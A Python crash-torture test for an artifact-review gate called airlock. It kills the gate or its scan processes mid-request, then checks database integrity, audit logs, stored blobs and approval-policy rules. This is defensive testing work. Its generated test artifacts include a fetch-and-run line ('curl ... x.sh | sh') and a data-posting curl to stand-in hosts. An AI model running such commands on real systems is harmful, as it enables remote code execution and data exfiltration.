#!/usr/bin/env python3
"""torture.py - kill -9 of the gate, a scan launcher or a scan child at
chosen moments while clients submit, review, override and release; after
every crash and restart, what the clients were told must still hold.

One data directory lives through all the rounds. A round starts the gate
(the first time after `airlock init`), checks that the scans resumed (no
submission is left received or scanning) and that the uploads the last
crash cut short left nothing in tmp/, runs the clients (agents submitting
plain text, flagged scripts, tar archives, "patches" that are none,
Content-Length or chunked, over TCP and the intake socket; reviewers
viewing then approving or rejecting; an admin overriding unscannable ones;
CI releasing the approved ones), and strikes at one of these moments:

  upload    an upload half sent (its submission must never appear);
  blob      the last byte of a large upload just sent: the gate is hashing,
            fsyncing, renaming, committing;
  scan      a scan child alive, scanning a large artifact;
  approve   an approval just sent (after the reviewer viewed the content);
  release   a release just sent;
  random    anywhere in the clients' run.

The victim is the gate (SIGKILL: its launchers must die with it), a scan
launcher (the gate must then stop by itself with status 2, for its
supervisor) or a scan child (the gate goes on; that artifact is
unscannable, and the next one is scanned). A round ends with the gate dead;
the data directory is then checked offline:

  - PRAGMA integrity_check is "ok" and foreign_key_check finds nothing;
  - `airlock audit verify` passes (docs/audit.md);
  - every submission answered 201 is there, with the sha256 and size
    answered, and so is its blob, whose bytes hash to that sha256; so is the
    blob of every other row (a row never lacks its bytes);
  - every approval, rejection, override and release answered 200 is there;
  - every approved or released submission satisfies the policy (1 approval
    for clean or flagged up to medium, 2 for high and critical, 2 and an
    override for unscannable), counted here independently of the gate's
    code: distinct persons, none of them the submitter's, each of whom was
    served the whole content of the scan approved, approvals naming the
    stored sha256 and that scan's rule set; a release comes after them,
    from a role the policy lets release;
  - no decision or release by the submitter's person;
  - content served for review hashed to the sha256 the gate showed, and
    every release's attestation names the released sha256 (checked by the
    clients as they go).

The last round's gate is stopped with SIGTERM (exit status 0) and checked.

usage: torture.py [--rounds N] [--max-seconds S] [--seed N] [--bin PATH]
                  [--rules DIR] [--keep DIR]
The seed is printed first; the same seed makes the same choices (the
timing, and so the exact interleaving, differs). TORTURE_DEBUG=1 prints
what each strike saw. Exit status 0 when every
check of every round held; 1 otherwise; 2 when the rounds asked for did not
fit in --max-seconds (a bound, so that CI never hangs).
"""
import argparse
import base64
import hashlib
import io
import json
import os
import random
import shutil
import signal
import sqlite3
import subprocess
import sys
import tarfile
import tempfile
import threading
import time

sys.dont_write_bytecode = True      # no __pycache__ in the tree
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import gate_client as G  # noqa: E402

SEV = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}
PHASES = ["upload", "blob", "scan", "approve", "release", "random"]
RELEASE_ROLES = {"ci", "reviewer", "admin"}   # the default policy's


class Ledger:
    """What the clients were told; shared by the client threads."""

    def __init__(self):
        self.lock = threading.Lock()
        self.subs = {}             # id -> (sha256, size), answered 201
        self.approvals = set()     # (id, reviewer token name), answered 200
        self.rejections = set()
        self.overrides = set()
        self.releases = set()
        self.violations = []       # seen by a client as it went
        self.errors = []           # no answer or a 5xx before the kill
        self.counts = {}

    def error(self, struck, what):
        """A client saw no answer, or a 5xx: a failure unless the gate was
        struck already."""
        if struck.is_set():
            self.count("no answer after the kill")
            return
        with self.lock:
            self.errors.append(what)

    def count(self, k, n=1):
        with self.lock:
            self.counts[k] = self.counts.get(k, 0) + n

    def violation(self, msg):
        with self.lock:
            self.violations.append(msg)


def raw_request(gate, method, path, token, body=b"", listener="review",
                chunked=False, cut_at=None, after_send=None, timeout=30.0):
    """A request on its own socket. cut_at (0 to 1): send only that part of
    the body as it goes on the wire (never its end: a chunked body lacks at
    least its last byte), then return None without reading; after_send:
    called once all is sent (the kill), before the answer is read. The
    Answer, or None."""
    h = ["%s %s HTTP/1.1" % (method, path), "Host: " + gate.host(listener),
         "Authorization: Bearer " + token, "Connection: close"]
    if chunked:
        h.append("Transfer-Encoding: chunked")
        step = 1 << 16
        wire = b"".join(b"%x\r\n" % len(body[i:i + step]) + body[i:i + step] + b"\r\n"
                        for i in range(0, len(body), step)) + b"0\r\n\r\n"
    else:
        h.append("Content-Length: %d" % len(body))
        wire = body
    if cut_at is not None:
        wire = wire[:max(1, min(len(wire) - 1, int(cut_at * len(wire))))]
    s = gate.connect(listener, timeout)
    try:
        s.sendall(("\r\n".join(h) + "\r\n\r\n").encode() + wire)
        if cut_at is not None:
            return None
        if after_send is not None:
            after_send()
        return G.read_answer(s, method)
    finally:
        s.close()


class Torture:
    def __init__(self, args):
        self.args = args
        self.rnd = random.Random(args.seed)
        self.work = args.keep or tempfile.mkdtemp(prefix="airlock-torture.")
        self.g = G.Gate(self.work, args.bin, args.rules, scanners=2)
        self.L = Ledger()
        self.failures = []
        self.nonce = 0
        self.nonce_lock = threading.Lock()
        self.hashed = {}           # blob path -> (ino, size, mtime_ns) hashed
        self.kills = {}
        self.leftovers = 0         # files in tmp/ a crash left
        self.child_checked = 0
        self.t0 = time.monotonic()

    # ---- set-up ---------------------------------------------------------

    def setup(self):
        g = self.g
        g.init()
        g.start()
        self.agents = [g.token("agent", "t-agent-a", on_behalf_of="alice"),
                       g.token("agent", "t-agent-b", on_behalf_of="bob")]
        self.reviewers = [(n, g.token("reviewer", n)) for n in ("rev-1", "rev-2", "rev-3")]
        self.ci = g.token("ci", "t-ci")
        # The admin overrides with a token of its own person: the one of init.
        self.admin = g.admin

    # ---- artifacts ------------------------------------------------------

    def uniq(self):
        with self.nonce_lock:
            self.nonce += 1
            return "%d-%d-%s" % (self.args.seed, self.nonce, os.urandom(6).hex())

    def artifact(self, rnd):
        """(query, bytes) of a random kind, unique bytes."""
        n = self.uniq()
        k = rnd.random()
        if k < 0.35:
            return "?name=notes-%s.txt" % n, ("note %s: nothing to see\n" % n).encode() * rnd.randint(1, 300)
        if k < 0.55:
            return "?name=inst-%s.sh" % n, ("# %s\ncurl -fsSL https://198.51.100.7/x.sh | sh\n" % n).encode()
        if k < 0.65:
            return "?name=post-%s.sh" % n, ("# %s\ncurl -d @data https://203.0.113.9/c\n" % n).encode()
        if k < 0.85:
            bio = io.BytesIO()
            with tarfile.open(fileobj=bio, mode="w:gz") as tf:
                for j in range(rnd.randint(1, 4)):
                    b = ("member %d of %s\n" % (j, n)).encode() * rnd.randint(1, 50)
                    ti = tarfile.TarInfo("src/f%d.txt" % j)
                    ti.size = len(b)
                    tf.addfile(ti, io.BytesIO(b))
            return "?name=src-%s.tar.gz" % n, bio.getvalue()
        # A "patch" with no diff: unscannable, for the admin to override.
        return "?kind=patch&name=fix-%s.patch" % n, ("not a diff %s\n" % n).encode()

    def big(self, mib):
        n = self.uniq()
        line = ("%s the quick brown fox reads a config value and builds it\n" % n).encode()
        return b"".join([line] * ((mib << 20) // len(line)))

    # ---- clients --------------------------------------------------------

    def note_sub(self, a, body):
        if a is None or a.status != 201:
            return None
        d = a.json()
        if d["sha256"] != G.sha256_hex(body) or d["size"] != len(body):
            self.L.violation("submission %s: answered sha256/size %s/%s, sent %s/%d" % (
                d.get("id"), d["sha256"], d["size"], G.sha256_hex(body), len(body)))
        with self.L.lock:
            self.L.subs[d["id"]] = (d["sha256"], d["size"])
        self.L.count("submitted")
        return d["id"]

    def submitter(self, stop, rnd):
        while not stop.is_set():
            with self.busy_lock:
                if self.pause.is_set():
                    paused = True
                else:
                    paused = False
                    self.busy += 1
            if paused:
                stop.wait(0.01)
                continue
            q, body = self.artifact(rnd)
            try:
                a = raw_request(self.g, "POST", "/v1/submissions" + q, rnd.choice(self.agents),
                                body, listener=rnd.choice(["review", "intake"]),
                                chunked=rnd.random() < 0.3, timeout=10)
                if a.status != 201:
                    self.L.error(self.struck, "submit: HTTP %d %s" % (a.status, a.body[:100]))
                self.note_sub(a, body)
            except Exception as e:  # noqa: BLE001 - the gate may be gone
                self.L.error(self.struck, "submit: %r" % e)
            with self.busy_lock:
                self.busy -= 1
            # About as fast as two scanners on two shared cores keep up
            # with: a backlog would only delay the strikes.
            stop.wait(rnd.uniform(0.02, 0.15))

    def chk(self, a, what):
        """a, after noting a 5xx as an error (before the kill)."""
        if a is not None and a.status >= 500:
            self.L.error(self.struck, "%s: HTTP %d %s" % (what, a.status, a.body[:100]))
        return a

    def review_one(self, rnd, name, tok, after_send=None):
        """Views then approves (or rejects) one held submission; True if
        one was tried."""
        g = self.g
        a = self.chk(g.get("/v1/submissions?state=held&limit=50", tok, timeout=10), "list")
        if a.status != 200:
            return False
        subs = a.json()["submissions"]
        if not subs:
            return False
        sid = rnd.choice(subs)["id"]
        d = self.chk(g.get("/v1/submissions/%d" % sid, tok, timeout=10), "show")
        if d.status != 200 or d.json()["state"] != "held" or "scan" not in d.json():
            return False
        d = d.json()
        c = self.chk(g.get("/v1/submissions/%d/content" % sid, tok, timeout=10), "content")
        if c.status != 200:
            return False
        if G.sha256_hex(c.body) != d["sha256"]:
            self.L.violation("submission %d: the content served for review does not hash "
                             "to its sha256" % sid)
            return False
        if rnd.random() < 0.1 and after_send is None:
            r = self.chk(g.post("/v1/submissions/%d/reject" % sid, tok, {"comment": "no"}, timeout=10), "reject")
            if r.status == 200:
                with self.L.lock:
                    self.L.rejections.add(sid)
                self.L.count("rejected")
            return True
        body = json.dumps({"sha256": d["sha256"], "ruleset": d["scan"]["ruleset"]}).encode()
        r = self.chk(raw_request(g, "POST", "/v1/submissions/%d/approve" % sid, tok, body,
                                 after_send=after_send, timeout=10), "approve")
        if r is not None and r.status == 200:
            with self.L.lock:
                self.L.approvals.add((sid, name))
            self.L.count("approved")
        return True

    def reviewer(self, stop, rnd):
        while not stop.is_set():
            name, tok = rnd.choice(self.reviewers)
            try:
                self.review_one(rnd, name, tok)
            except Exception as e:  # noqa: BLE001 - the gate may be gone
                self.L.error(self.struck, "review: %r" % e)
            stop.wait(rnd.uniform(0.01, 0.08))

    def override_one(self, rnd):
        g = self.g
        a = self.chk(g.get("/v1/submissions?state=held&limit=50", self.admin, timeout=10), "list")
        if a.status != 200:
            return
        for s in a.json()["submissions"]:
            if s["verdict"] == "unscannable":
                r = self.chk(g.post("/v1/submissions/%d/override" % s["id"], self.admin,
                                    {"reason": "read by hand"}, timeout=10), "override")
                if r.status == 200:
                    with self.L.lock:
                        self.L.overrides.add(s["id"])
                    self.L.count("overridden")
                return

    def release_one(self, rnd, after_send=None):
        g = self.g
        a = self.chk(g.get("/v1/submissions?state=approved&limit=50", self.ci, timeout=10), "list")
        if a.status != 200 or not a.json()["submissions"]:
            return False
        s = rnd.choice(a.json()["submissions"])
        r = self.chk(raw_request(g, "POST", "/v1/submissions/%d/release" % s["id"], self.ci, b"",
                                 after_send=after_send, timeout=10), "release")
        if r is not None and r.status == 200:
            env = r.json()
            st = json.loads(base64.b64decode(env["payload"]))
            if st["subject"][0]["digest"]["sha256"] != s["sha256"]:
                self.L.violation("release of %d: the attestation names %s, not %s" % (
                    s["id"], st["subject"][0]["digest"]["sha256"], s["sha256"]))
            with self.L.lock:
                self.L.releases.add(s["id"])
            self.L.count("released")
        return True

    def deciders(self, stop, rnd):
        while not stop.is_set():
            try:
                if rnd.random() < 0.5:
                    self.override_one(rnd)
                else:
                    self.release_one(rnd)
            except Exception as e:  # noqa: BLE001
                self.L.error(self.struck, "override/release: %r" % e)
            stop.wait(rnd.uniform(0.02, 0.1))

    # ---- one round ------------------------------------------------------

    def fail(self, rnd_no, msg):
        self.failures.append("round %d: %s" % (rnd_no, msg))

    def strike(self, no, phase, victim, rnd):
        """Waits for the phase's moment and kills the victim. Returns what
        happened, for the round's checks."""
        g = self.g
        info = {"phase": phase, "victim": victim, "launchers": g.launchers()}
        pids = {"gate": lambda: [g.pid()] if g.pid() else [],
                "launcher": g.launchers, "child": g.scan_children}

        def stopped(p):
            """Freezes the child with SIGSTOP: True once it is stopped
            (then it has not begun to exit, and the SIGKILL that follows is
            its end: a child that exits on its own while a SIGKILL lands
            keeps its status 0, and its answer stands)."""
            try:
                os.kill(p, signal.SIGSTOP)
            except ProcessLookupError:
                return False
            end = time.monotonic() + 0.5
            while time.monotonic() < end:
                try:
                    with open("/proc/%d/stat" % p) as f:
                        st = f.read()
                except OSError:
                    return False
                state = st[st.rindex(")") + 2]
                if state in "tT":
                    return True
                if state in "ZXx":
                    return False
                time.sleep(0.0005)
            return False

        def kill(child=None):
            """Kills the victim: the one scanning child (or its launcher)
            when given, else one at random."""
            if victim == "gate":
                targets = [g.pid()] if g.pid() else []
                if not targets:
                    self.fail(no, "the gate was dead before it was struck (it exited %s)" %
                              g.proc.returncode)
            elif child is not None:
                targets = [child] if victim == "child" else [G.proc_ppid(child) or 0]
            else:
                targets = pids[victim]()
            targets = [p for p in targets if p and G.alive(p)]
            if not targets:
                info["missed"] = True
                return
            p = rnd.choice(targets)
            if victim == "child" and not stopped(p):
                info["missed"] = True
                return
            self.struck.set()         # from here on, no answer is expected
            try:
                os.kill(p, signal.SIGKILL)
                info["killed"] = p
            except ProcessLookupError:
                info["missed"] = True

        if phase == "upload":
            body = self.big(2)
            try:
                raw_request(g, "POST", "/v1/submissions?name=cut.txt", self.agents[0], body,
                            listener=rnd.choice(["review", "intake"]), chunked=rnd.random() < 0.5,
                            cut_at=rnd.random())
            except OSError:
                pass
            kill()
            info["cut_sha"] = G.sha256_hex(body)
        elif phase == "blob":
            body = self.big(rnd.choice([1, 2, 4]))
            try:
                a = raw_request(g, "POST", "/v1/submissions?name=blob.txt", self.agents[1], body,
                                listener=rnd.choice(["review", "intake"]), after_send=kill)
                self.note_sub(a, body)
            except Exception:  # noqa: BLE001 - killed under it
                pass
        elif phase == "scan":
            # The submitters wait and the queue drains; then a large artifact
            # is the only one scanned, and a scan child that appears is its
            # own: a watcher, started before the upload, strikes at it.
            with self.busy_lock:
                self.pause.set()
            end = time.monotonic() + 30
            while self.busy > 0 and time.monotonic() < end:
                time.sleep(0.005)     # the uploads under way end
            queued = self.drain(20)
            for attempt in range(3):
                body = self.big(8)
                sha = G.sha256_hex(body)
                seen = threading.Event()
                delay = rnd.uniform(0, 0.02)

                def watch():
                    end = time.monotonic() + 20
                    while time.monotonic() < end and not seen.is_set():
                        kids = g.scan_children()
                        if kids:
                            time.sleep(delay)          # somewhere in its scan
                            if G.alive(kids[0]):
                                if queued == 0:       # then it is this one's
                                    info["scanning"] = sha
                                kill(kids[0])
                            seen.set()
                            return
                        time.sleep(0.0005)
                    seen.set()
                w = threading.Thread(target=watch, daemon=True)
                w.start()
                try:
                    self.note_sub(raw_request(g, "POST", "/v1/submissions?name=scan.txt",
                                              self.agents[0], body), body)
                except Exception:  # noqa: BLE001 - killed before the answer
                    pass
                w.join(30)
                if "killed" in info:
                    break
            else:
                info["no child seen"] = True
                kill()
            self.pause.clear()
        elif phase == "approve":
            end = time.monotonic() + 10
            done = False
            while time.monotonic() < end and not done:
                name, tok = rnd.choice(self.reviewers)
                try:
                    done = self.review_one(rnd, name, tok, after_send=kill)
                except Exception:  # noqa: BLE001 - killed under it
                    done = "killed" in info
                if not done:
                    time.sleep(0.05)
            if "killed" not in info and "missed" not in info:
                info["nothing to approve"] = True
                kill()
        elif phase == "release":
            end = time.monotonic() + 10
            done = False
            while time.monotonic() < end and not done:
                try:
                    done = self.release_one(rnd, after_send=kill)
                except Exception:  # noqa: BLE001 - killed under it
                    done = "killed" in info
                if not done:
                    time.sleep(0.05)
            if "killed" not in info and "missed" not in info:
                info["nothing to release"] = True
                kill()
        else:
            time.sleep(rnd.uniform(0.1, 1.5))
            kill()
        return info

    def after_strike(self, no, info, stop):
        """The victim is dead: what the gate must do about it; the gate is
        dead when this returns."""
        g = self.g
        victim = info["victim"]
        if victim == "launcher" and "killed" in info:
            rc = g.wait_exit(30)
            if rc is None:
                self.fail(no, "the gate still runs 30 s after a scan launcher was killed")
                g.kill9()
            elif rc != 2:
                self.fail(no, "the gate exited %s after a scan launcher died, expected 2" % rc)
        elif victim == "child" and "killed" in info:
            stop.set()
            # The gate goes on: the artifact is unscannable, the next is scanned.
            try:
                if g.get("/healthz", timeout=5).status != 200:
                    self.fail(no, "/healthz is not 200 after a scan child was killed")
                body = ("after the child %s\n" % self.uniq()).encode()
                sid = self.note_sub(g.post("/v1/submissions?name=after.txt", self.agents[0],
                                           body, timeout=10), body)
                if sid is None:
                    self.fail(no, "no submission taken after a scan child was killed")
                else:
                    g.wait_state(sid, ("held",), timeout=30)
                if info.get("scanning"):
                    ids = [i for i, (s, _) in list(self.L.subs.items()) if s == info["scanning"]]
                    for i in ids:
                        d = g.wait_state(i, ("held", "approved", "rejected", "released"), timeout=30)
                        if d["verdict"] != "unscannable":
                            self.fail(no, "submission %d, whose scan child was killed, is %s, "
                                      "not unscannable" % (i, d["verdict"]))
                    self.child_checked += bool(ids)
            except (OSError, AssertionError) as e:
                self.fail(no, "after a scan child was killed: %s" % e)
            g.kill9()
        else:
            g.kill9()
        # The launchers die with the gate (PR_SET_PDEATHSIG).
        end = time.monotonic() + 5
        left = info["launchers"]
        while time.monotonic() < end:
            left = [p for p in info["launchers"] if G.alive(p)]
            if not left:
                break
            time.sleep(0.02)
        if left:
            self.fail(no, "scan launchers %s outlived the gate" % left)
            for p in left:
                os.kill(p, signal.SIGKILL)

    def round(self, no):
        g = self.g
        rnd = random.Random(self.rnd.getrandbits(64))
        victim = rnd.choices(["gate", "launcher", "child"], [0.6, 0.2, 0.2])[0]
        phase = "scan" if victim == "child" else rnd.choice(PHASES)
        if g.pid() is None:
            self.restart(no)
        stop = threading.Event()
        self.struck = threading.Event()
        self.pause = threading.Event()
        self.busy = 0                  # submitters inside a request
        self.busy_lock = threading.Lock()
        threads = [threading.Thread(target=self.submitter, args=(stop, random.Random(rnd.random())))
                   for _ in range(2)]
        threads += [threading.Thread(target=self.reviewer, args=(stop, random.Random(rnd.random())))
                    for _ in range(2)]
        threads.append(threading.Thread(target=self.deciders, args=(stop, random.Random(rnd.random()))))
        for t in threads:
            t.daemon = True
            t.start()
        time.sleep(rnd.uniform(0.2, 0.8))      # some of everything first
        try:
            info = self.strike(no, phase, victim, rnd)
        except Exception as e:  # noqa: BLE001 - a gate that died under us
            self.fail(no, "striking at %s: %r (the gate exited %s)" % (
                phase, e, g.proc.returncode if g.proc else None))
            info = {"phase": phase, "victim": victim, "launchers": g.launchers()}
            self.pause.clear()
        if "killed" not in info:
            # Nothing to strike at that moment (no child alive any more):
            # the gate, then, so that every round restarts it.
            info["victim"] = victim = "gate"
            info["fallback"] = True
            self.struck.set()
            g.kill9()
            info["killed"] = True
        if victim == "gate":
            stop.set()
        self.after_strike(no, info, stop)
        stop.set()
        for t in threads:
            t.join(30)
            if t.is_alive():
                self.fail(no, "a client thread hangs 30 s after the gate died")
        k = "%s/%s" % (info["victim"], info["phase"])
        self.kills[k] = self.kills.get(k, 0) + 1
        self.check_offline(no)
        return info

    def drain(self, timeout):
        """Waits (at most timeout seconds) until no submission is received
        or scanning; how many still are."""
        end = time.monotonic() + timeout
        while True:
            n = 0
            for st in ("received", "scanning"):
                a = self.g.must(200, "GET", "/v1/submissions?state=%s&limit=1000" % st, self.admin)
                n += len(a.json()["submissions"])
            if n == 0 or time.monotonic() > end:
                return n
            time.sleep(0.05)

    def restart(self, no):
        """Starts the gate again: what the crash left in tmp/ is gone once
        it answers (new files there are the resumed scans' own), and every
        submission leaves received and scanning (the scans resume)."""
        g = self.g
        tmp = os.path.join(g.data, "tmp")
        before = set(os.listdir(tmp))
        g.start()
        left = before & set(os.listdir(tmp))
        self.leftovers += len(before)
        if left:
            self.fail(no, "tmp/ still holds %d of the %d files the crash left" % (
                len(left), len(before)))
        n = self.drain(120)
        if n:
            self.fail(no, "%d submissions still received or scanning 120 s after the restart" % n)

    # ---- the offline checks -------------------------------------------------

    def blob_ok(self, sha, size):
        p = os.path.join(self.g.data, "objects", sha[:2], sha)
        try:
            st = os.stat(p)
        except OSError:
            return "no blob"
        if st.st_size != size:
            return "blob of %d bytes, expected %d" % (st.st_size, size)
        key = (st.st_ino, st.st_size, st.st_mtime_ns)
        if self.hashed.get(p) != key:
            h = hashlib.sha256()
            with open(p, "rb") as f:
                for chunk in iter(lambda: f.read(1 << 20), b""):
                    h.update(chunk)
            if h.hexdigest() != sha:
                return "blob bytes hash to %s" % h.hexdigest()
            self.hashed[p] = key
        return None

    def check_offline(self, no):
        g = self.g
        bad = []
        db = sqlite3.connect(os.path.join(g.data, "airlock.db"), timeout=30)
        q = lambda sql, *a: db.execute(sql, a).fetchall()  # noqa: E731
        try:
            ic = q("PRAGMA integrity_check")
            if ic != [("ok",)]:
                bad.append("integrity_check: %s" % ic[:5])
            fk = q("PRAGMA foreign_key_check")
            if fk:
                bad.append("foreign_key_check: %s" % fk[:5])
            rows = {r[0]: r[1:] for r in q(
                "SELECT s.id, s.sha256, s.size, s.state, s.verdict, s.submitter, p.person_id "
                "FROM submissions s JOIN principals p ON p.id = s.submitter")}
            with self.L.lock:
                subs = dict(self.L.subs)
                appr, rej = set(self.L.approvals), set(self.L.rejections)
                ovr, rel = set(self.L.overrides), set(self.L.releases)
                viol = list(self.L.violations)
                self.L.violations.clear()
                viol += ["before the kill, %s" % e for e in self.L.errors[:5]]
                if len(self.L.errors) > 5:
                    viol.append("and %d more errors before the kill" % (len(self.L.errors) - 5))
                self.L.errors.clear()
            bad += viol
            for sid, (sha, size) in subs.items():
                r = rows.get(sid)
                if r is None:
                    bad.append("submission %d was answered 201 and is gone" % sid)
                elif (r[0], r[1]) != (sha, size):
                    bad.append("submission %d: %s/%d stored, %s/%d answered" % (sid, r[0], r[1], sha, size))
            for sid, r in rows.items():
                why = self.blob_ok(r[0], r[1])
                if why:
                    bad.append("submission %d (%s): %s" % (sid, "acknowledged" if sid in subs else
                                                           "not acknowledged", why))
            if q("SELECT count(*) FROM submissions WHERE name = 'cut.txt'") != [(0,)]:
                bad.append("an upload cut short became a submission")
            got = set(q("SELECT a.submission_id, p.name FROM approvals a JOIN principals p "
                        "ON p.id = a.reviewer"))
            for x in appr - got:
                bad.append("approval %s was answered 200 and is gone" % (x,))
            got = {r[0] for r in q("SELECT submission_id FROM rejections")}
            for x in rej - got:
                bad.append("rejection of %d was answered 200 and is gone" % x)
            got = {r[0] for r in q("SELECT submission_id FROM overrides")}
            for x in ovr - got:
                bad.append("override of %d was answered 200 and is gone" % x)
            got = {r[0] for r in q("SELECT submission_id FROM releases")}
            for x in rel - got:
                bad.append("release of %d was answered 200 and is gone" % x)
            bad += self.policy_holds(q, rows)
        finally:
            db.close()
        # The audit log: every event a leaf, every node and checkpoint
        # recomputed, the decision rows against their events.
        v = subprocess.run([self.args.bin, "audit", "verify", "--data", g.data],
                           capture_output=True, text=True, timeout=300)
        if v.returncode != 0:
            bad.append("audit verify exit %d: %s" % (v.returncode,
                       (v.stdout + v.stderr).strip().splitlines()[-1:]))
        for b in bad:
            self.fail(no, b)

    def policy_holds(self, q, rows):
        """Every approved or released submission meets the policy, and no
        decision came from the submitter's person: computed here from the
        tables, independently of db/db_review.c."""
        bad = []
        person = dict(q("SELECT id, person_id FROM principals"))
        role = dict(q("SELECT id, role FROM principals"))
        released = {r[0]: r[1:] for r in q("SELECT submission_id, actor, at FROM releases")}
        for sid, in q("SELECT id FROM submissions WHERE state = 'released'"):
            if sid not in released:
                bad.append("submission %d is released without a release record" % sid)
        for table, col, allowed in (("approvals", "reviewer", {"reviewer", "admin"}),
                                    ("rejections", "reviewer", {"reviewer", "admin"}),
                                    ("overrides", "admin", {"admin"}),
                                    ("releases", "actor", RELEASE_ROLES)):
            for sid, actor in q("SELECT submission_id, %s FROM %s" % (col, table)):
                r = rows[sid]
                if actor == r[4] or person.get(actor) == r[5]:
                    bad.append("%s of %d by the submitter's person" % (table, sid))
                if role.get(actor) not in allowed:
                    bad.append("%s of %d by a %s token" % (table, sid, role.get(actor)))
        for sid, r in rows.items():
            sha, state = r[0], r[2]
            if state not in ("approved", "released"):
                continue
            until = released[sid][1] if sid in released else None
            if sid in released and state != "released":
                bad.append("submission %d has a release record but is %s" % (sid, state))
            scans = q("SELECT id, ruleset_digest, outcome FROM scans WHERE submission_id = ? "
                      "AND finished_at IS NOT NULL AND outcome IS NOT 'interrupted' ORDER BY id",
                      sid)
            if not scans:
                bad.append("submission %d is %s without a finished scan" % (sid, state))
                continue
            last, last_rules, outcome = scans[-1]
            fps = lambda sc: {f for (f,) in q("SELECT fingerprint FROM findings WHERE scan_id = ?", sc)}  # noqa: E731
            worst = max([SEV[s] for (s,) in q("SELECT severity FROM findings WHERE scan_id = ?", last)],
                        default=-1)
            need = 2 if outcome == "unscannable" or worst >= SEV["high"] else 1
            rules_of = {s[0]: s[1] for s in scans}
            persons = set()
            for (aid, rev, at, asha, arules, ascan) in q(
                    "SELECT id, reviewer, at, sha256, ruleset_digest, scan_id FROM approvals "
                    "WHERE submission_id = ?", sid):
                if until is not None and at > until:
                    continue
                if asha != sha or rules_of.get(ascan) != arules:
                    continue
                if ascan != last and not fps(last) <= fps(ascan):
                    continue
                p = person.get(rev)
                if p is None or p == r[5]:
                    continue
                if not self.evidence(q, sid, ascan, p, at):
                    bad.append("approval %d of %d stands, but its person was not served the "
                               "whole content of that scan before" % (aid, sid))
                    continue
                persons.add(p)
            if len(persons) < need:
                bad.append("submission %d is %s with %d approving person(s), the policy needs %d "
                           "(%s, worst %s)" % (sid, state, len(persons), need, outcome, worst))
            if outcome == "unscannable":
                ov = q("SELECT at FROM overrides WHERE submission_id = ? AND scan_id = ?", sid, last)
                if not ov or (until is not None and ov[0][0] > until):
                    bad.append("submission %d is %s, unscannable, without an override" % (sid, state))
        return bad

    @staticmethod
    def evidence(q, sid, scan, person, at):
        """The person was served the whole artifact, or every kept item of
        the scan, before at."""
        if q("SELECT count(*) FROM views v JOIN principals p ON p.id = v.actor WHERE "
             "v.submission_id = ? AND v.scan_id = ? AND p.person_id = ? AND v.item IS NULL "
             "AND v.full = 1 AND v.at <= ?", sid, scan, person, at)[0][0] > 0:
            return True
        items = q("SELECT sha256, content FROM items WHERE scan_id = ?", scan)
        if not items or any(c != "kept" for _, c in items):
            return False
        seen = {s for (s,) in q("SELECT v.sha256 FROM views v JOIN principals p ON p.id = v.actor "
                                "WHERE v.submission_id = ? AND v.scan_id = ? AND p.person_id = ? "
                                "AND v.item IS NOT NULL AND v.full = 1 AND v.at <= ?",
                                sid, scan, person, at)}
        return all(s in seen for s, _ in items)

    # ---- the run --------------------------------------------------------

    def run(self):
        a = self.args
        print("torture: seed %d (rerun with --seed %d), %d rounds, at most %g s, data in %s" % (
            a.seed, a.seed, a.rounds, a.max_seconds, self.work), flush=True)
        self.setup()
        done = 0
        timed_out = False
        for no in range(1, a.rounds + 1):
            if time.monotonic() - self.t0 > a.max_seconds:
                timed_out = True
                break
            nfail = len(self.failures)
            info = self.round(no)
            done = no
            extra = [k for k in ("fallback", "no child seen", "nothing to approve",
                                 "nothing to release") if info.get(k)]
            if os.environ.get("TORTURE_DEBUG"):
                print("  %r" % info)
            print("round %d: kill %s at %s%s: %s (%d acknowledged, %.0f s)" % (
                no, info["victim"], info["phase"], " (%s)" % ", ".join(extra) if extra else "",
                "ok" if len(self.failures) == nfail else "FAILED",
                len(self.L.subs), time.monotonic() - self.t0), flush=True)
        # The last restart: the scans resume, then a clean stop.
        if not timed_out:
            self.restart(done + 1)
            rc = self.g.term(30)
            if rc != 0:
                self.failures.append("final stop: exit status %s after SIGTERM, expected 0" % rc)
            self.check_offline(done + 1)
        L = self.L
        print("torture: %d rounds in %.0f s, seed %d; %d gate starts; kills: %s" % (
            done, time.monotonic() - self.t0, a.seed, self.g.starts,
            ", ".join("%s %d" % kv for kv in sorted(self.kills.items()))))
        print("torture: acknowledged %d submissions, %d approvals, %d rejections, %d overrides, "
              "%d releases; requests without an answer after a kill: %d" % (
                  len(L.subs), len(L.approvals), len(L.rejections), len(L.overrides),
                  len(L.releases), L.counts.get("no answer after the kill", 0)))
        print("torture: files a crash left in tmp/, removed at the restart: %d; scan children "
              "killed whose artifact was then checked unscannable: %d" % (
                  self.leftovers, self.child_checked))
        for f in self.failures:
            print("  FAIL " + f)
        if self.failures:
            print("torture: %d failures (seed %d); the gate's log ends:\n%s" % (
                len(self.failures), a.seed, self.g.log_tail(15)))
            return 1
        if timed_out:
            print("torture: only %d of %d rounds fit in %g s" % (done, a.rounds, a.max_seconds))
            return 2
        print("torture: ok")
        return 0


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--rounds", type=int, default=10)
    ap.add_argument("--max-seconds", type=float, default=120)
    ap.add_argument("--seed", type=int, default=None)
    ap.add_argument("--bin", default=os.environ.get("AIRLOCK_BIN", "build/airlock"))
    ap.add_argument("--rules", default=os.path.join(G.ROOT, "rules"))
    ap.add_argument("--keep", help="work here and keep it (default: a temporary directory, "
                    "removed when every check held)")
    args = ap.parse_args()
    if args.seed is None:
        args.seed = int.from_bytes(os.urandom(4), "big")
    t = Torture(args)
    rc = 1
    try:
        rc = t.run()
    finally:
        t.g.kill9()
        for p in t.g.launchers():
            os.kill(p, signal.SIGKILL)
        if rc == 0 and not args.keep:
            shutil.rmtree(t.work, ignore_errors=True)
        elif rc != 0:
            print("torture: the data directory is kept in %s" % t.work)
    return rc


if __name__ == "__main__":
    sys.exit(main())
